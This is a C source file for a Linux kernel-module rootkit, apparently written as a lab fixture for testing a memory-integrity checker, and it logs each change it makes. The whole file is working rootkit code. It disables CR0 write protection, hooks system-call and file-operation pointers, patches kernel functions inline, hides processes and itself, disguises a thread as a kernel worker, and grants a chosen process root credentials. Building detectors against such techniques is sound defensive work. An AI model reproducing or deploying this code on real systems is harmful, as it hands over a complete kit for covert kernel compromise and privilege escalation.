/* The lab's own rootkit: does to one guest what `check` must find, and prints what it did. Loaded nowhere else. */
#include <linux/ftrace.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/seq_file.h>
#include <linux/tracepoint.h>
#include <linux/cred.h>
#include <linux/delay.h>
#include <linux/fs.h>
#include <linux/set_memory.h>
#include <linux/pid.h>
#include <linux/sched/signal.h>
#include <asm/unistd.h>

static int hide, bury, raise_to_root, share;
module_param(hide, int, 0);
MODULE_PARM_DESC(hide, "process to take off the list of processes");
module_param(bury, int, 0);
MODULE_PARM_DESC(bury, "process to take off the list and out of the pid idr");
module_param(raise_to_root, int, 0);
MODULE_PARM_DESC(raise_to_root, "process to give the kernel's credentials");
module_param(share, int, 0);
MODULE_PARM_DESC(share, "process to give the first process's own credentials object");

typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn lookup;
static void (*tell)(const char *format, ...) __printf(1, 2);

/* kallsyms_lookup_name is not exported any more; a probe on it tells where it is. */
static int find_lookup(void)
{
	struct kprobe probe = { .symbol_name = "kallsyms_lookup_name" };
	int error = register_kprobe(&probe);

	if (error)
		return error;
	lookup = (lookup_fn)probe.addr;
	unregister_kprobe(&probe);
	return 0;
}

/* Writes to read-only memory: clears the processor's write protection for a moment. */
static void overwrite(void *to, const void *from, size_t size)
{
	unsigned long cr0, flags;

	local_irq_save(flags);
	asm volatile("mov %%cr0, %0" : "=r"(cr0));
	asm volatile("mov %0, %%cr0" : : "r"(cr0 & ~(1UL << 16)) : "memory");
	memcpy(to, from, size);
	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
	local_irq_restore(flags);
}

static void hook_pointer(const char *what, void **place, void *to)
{
	void *was = *place;

	overwrite(place, &to, sizeof(to));
	tell("ROOTKIT pointer %s at %px was %px now %px\n", what, place, was, to);
}

/* 1. A system call's entry, and one that leads to code without an owner. */
static asmlinkage long own_kill(const struct pt_regs *regs)
{
	return -EPERM;
}

static void hook_system_calls(void)
{
	static const u8 code[] = { 0x48, 0xc7, 0xc0, 0xda, 0xff, 0xff, 0xff, 0xc3 }; /* mov rax, -38; ret */
	void **table = (void **)lookup("sys_call_table");
	void *(*allocate)(unsigned long) = (void *)lookup("module_alloc");
	int (*executable)(unsigned long, int) = (void *)lookup("set_memory_x");
	void *page = allocate(PAGE_SIZE);

	hook_pointer("sys_call_table[kill]", &table[__NR_kill], own_kill);
	memset(page, 0, PAGE_SIZE);
	memcpy(page, code, sizeof(code));
	executable((unsigned long)page, 1);
	tell("ROOTKIT orphan code at %px\n", page);
	hook_pointer("sys_call_table[acct]", &table[__NR_acct], page);
}

/* 2. A function traced, one probed, one overwritten. */
static void notrace traced(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *regs)
{
}

static struct ftrace_ops tracer = { .func = traced };

static int probed(struct kprobe *probe, struct pt_regs *regs)
{
	return 0;
}

static struct kprobe probe = { .symbol_name = "do_filp_open", .pre_handler = probed };

static void patch_function(void)
{
	u8 *function = (u8 *)lookup("__x64_sys_swapoff");
	u8 jump[5] = { 0xe9 };
	s32 distance = (u8 *)own_kill - (function + sizeof(jump));

	memcpy(jump + 1, &distance, sizeof(distance));
	overwrite(function, jump, sizeof(jump));
	tell("ROOTKIT inline __x64_sys_swapoff at %px\n", function);
}

/* 3. Operations of files. */
static int own_show(struct seq_file *seq, void *value)
{
	return 0;
}

static int own_iterate(struct file *file, struct dir_context *context)
{
	static int (*real)(struct file *, struct dir_context *);

	if (!real)
		real = (void *)lookup("proc_root_readdir");
	return real(file, context);
}

static void hook_operations(void)
{
	struct seq_operations *tcp = (void *)lookup("tcp4_seq_ops");
	struct file_operations *root = (void *)lookup("proc_root_operations");

	hook_pointer("tcp4_seq_ops.show", (void **)&tcp->show, own_show);
	hook_pointer("proc_root_operations.iterate_shared", (void **)&root->iterate_shared, own_iterate);
}

/* 4. A tracepoint, the keyboard, a thread of its own that is named like a kernel worker. */
static void on_exit_of(void *data, struct task_struct *task)
{
}

static void find_tracepoint(struct tracepoint *point, void *found)
{
	if (!strcmp(point->name, "sched_process_exit"))
		*(struct tracepoint **)found = point;
}

static int on_key(struct notifier_block *block, unsigned long action, void *data)
{
	return NOTIFY_OK;
}

static struct notifier_block keys = { .notifier_call = on_key };

static int worker(void *data)
{
	while (!kthread_should_stop())
		msleep(1000);
	return 0;
}

static void listen(void)
{
	struct tracepoint *point = NULL;

	for_each_kernel_tracepoint(find_tracepoint, &point);
	if (point && !tracepoint_probe_register(point, on_exit_of, NULL))
		tell("ROOTKIT tracepoint sched_process_exit\n");
	if (!register_keyboard_notifier(&keys))
		tell("ROOTKIT notifier keyboard\n");
	if (!IS_ERR(kthread_run(worker, NULL, "kworker/7:7")))
		tell("ROOTKIT thread kworker/7:7\n");
}

/* 5. Processes. */
static struct task_struct *task_of(int pid)
{
	return pid ? get_pid_task(find_get_pid(pid), PIDTYPE_PID) : NULL;
}

static void hide_processes(void)
{
	struct task_struct *task = task_of(hide);

	if (task) {
		list_del_init(&task->tasks);
		tell("ROOTKIT hidden process %d at %px\n", hide, task);
	}
	task = task_of(bury);
	if (task) {
		list_del_init(&task->tasks);
		hlist_del_init(&task->pid_links[PIDTYPE_PID]);
		hlist_del_init(&task->pid_links[PIDTYPE_TGID]);
		tell("ROOTKIT buried process %d at %px\n", bury, task);
	}
}

static void change_credentials(void)
{
	struct cred *(*prepare)(struct task_struct *) = (void *)lookup("prepare_kernel_cred");
	struct task_struct *task = task_of(raise_to_root), *first = task_of(1);
	const struct cred *credentials;

	if (task) {
		credentials = prepare((void *)lookup("init_task"));
		rcu_assign_pointer(task->real_cred, get_cred(credentials));
		rcu_assign_pointer(task->cred, credentials);
		tell("ROOTKIT raised process %d\n", raise_to_root);
	}
	task = task_of(share);
	if (task && first) {
		rcu_assign_pointer(task->real_cred, get_cred(first->real_cred));
		rcu_assign_pointer(task->cred, get_cred(first->real_cred));
		tell("ROOTKIT shared process %d\n", share);
	}
}

/* 6. Itself: off the list and out of sysfs. */
static void hide_module(void)
{
	tell("ROOTKIT module %s at %px\n", THIS_MODULE->name, THIS_MODULE);
	list_del_init(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
}

static int __init start(void)
{
	int error = find_lookup();

	if (error)
		return error;
	tell = (void *)lookup("_printk");
	if (!tell)
		tell = (void *)lookup("printk");
	hook_system_calls();
	if (!ftrace_set_filter(&tracer, "tcp4_seq_show", 13, 1) && !register_ftrace_function(&tracer))
		tell("ROOTKIT ftrace tcp4_seq_show\n");
	if (!register_kprobe(&probe))
		tell("ROOTKIT kprobe do_filp_open\n");
	patch_function();
	hook_operations();
	listen();
	hide_processes();
	change_credentials();
	hide_module();
	return 0;
}

module_init(start);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("what a check of memory must find");
